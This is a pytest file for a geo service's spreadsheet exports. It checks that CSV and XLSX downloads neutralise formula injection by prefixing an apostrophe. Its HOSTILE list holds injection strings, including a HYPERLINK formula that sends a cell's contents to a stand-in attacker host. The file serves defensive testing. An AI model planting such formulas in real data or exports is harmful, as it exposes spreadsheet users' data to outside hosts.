"""No formulas out: names that look like formulas reach every CSV/XLSX as plain text with a
leading apostrophe (downloads, the census export, the coverage workbook), and read back
unchanged when a workbook of ours is loaded again."""

from __future__ import annotations

import csv
import io

import pytest
from accounts_helpers import add_users, login, unlimited_app, writable_sample
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import text

from geo_service.ingest.readers import read_source
from geo_service.spreadsheets import FORMULA_STARTS, read_cell, safe_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1+2", "@SUM(1)",
           "\t=1+1", "\r=2+2"]


@pytest.fixture(scope="module")
def setup(database_factory):
    engine = writable_sample(database_factory, "cells")
    add_users(engine, "planner")
    with engine.begin() as conn:
        for table in ("eldercare_sites", "place_names"):
            ids = conn.execute(text(f"SELECT id FROM {table} WHERE is_public ORDER BY id "
                                    f"LIMIT {len(HOSTILE)}")).scalars().all()
            for row_id, name in zip(ids, HOSTILE, strict=True):
                conn.execute(text(f"UPDATE {table} SET name = :n WHERE id = :i"),
                             {"n": name, "i": row_id})
        conn.execute(text("UPDATE admin_areas SET name = :n WHERE id = (SELECT min(id) FROM "
                          "admin_areas WHERE level = 'village')"), {"n": HOSTILE[0]})
    app = unlimited_app(engine)
    with TestClient(app) as client:
        yield client, login(client, "planner")
    engine.dispose()


def _workbook_cells(body: bytes) -> list:
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_safe_workbook(body: bytes, expected: list[str]) -> None:
    cells = _workbook_cells(body)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    assert {"'" + name for name in expected} <= texts


def test_safe_cell_rules() -> None:
    assert [safe_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [safe_cell(v) for v in ("敬老院", "1+1", -3, 2.5, None)] == [
        "敬老院", "1+1", -3, 2.5, None]
    assert [read_cell(str(safe_cell(v))) for v in [*HOSTILE, "'引号开头"]] == [
        *HOSTILE, "'引号开头"]


def test_layer_xlsx_download_has_no_formula(setup) -> None:
    client, _ = setup
    response = client.get("/collections/eldercare_sites/download?format=xlsx")
    assert response.status_code == 200
    _assert_safe_workbook(response.content, HOSTILE)


def test_layer_csv_download_prefixes_formula_text(setup) -> None:
    client, _ = setup
    response = client.get("/collections/eldercare_sites/download?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    fields = {f for row in rows for f in row}
    assert {"'" + name for name in HOSTILE} <= fields
    numbers = {f for f in fields if f.lstrip("-").replace(".", "", 1).isdigit()}
    assert not [f for f in fields - numbers if f.startswith(FORMULA_STARTS)]


def test_census_export_is_safe_and_reloads_unchanged(setup, tmp_path) -> None:
    client, _ = setup
    response = client.get("/places/export.xlsx")
    assert response.status_code == 200
    _assert_safe_workbook(response.content, HOSTILE)
    path = tmp_path / "export.xlsx"
    path.write_bytes(response.content)
    names = set(read_source(path, "地名").frame["标准名称"])
    assert set(HOSTILE) - {"\t=1+1", "\r=2+2"} <= names  # read back as they were stored


def test_coverage_workbook_has_no_formula(setup) -> None:
    client, planner = setup
    response = client.post("/coverage?format=xlsx", headers=planner,
                           json={"kinds": ["社区养老服务站", "村级互助养老点"], "radius_m": 700})
    assert response.status_code == 200, response.text
    _assert_safe_workbook(response.content, [HOSTILE[0]])
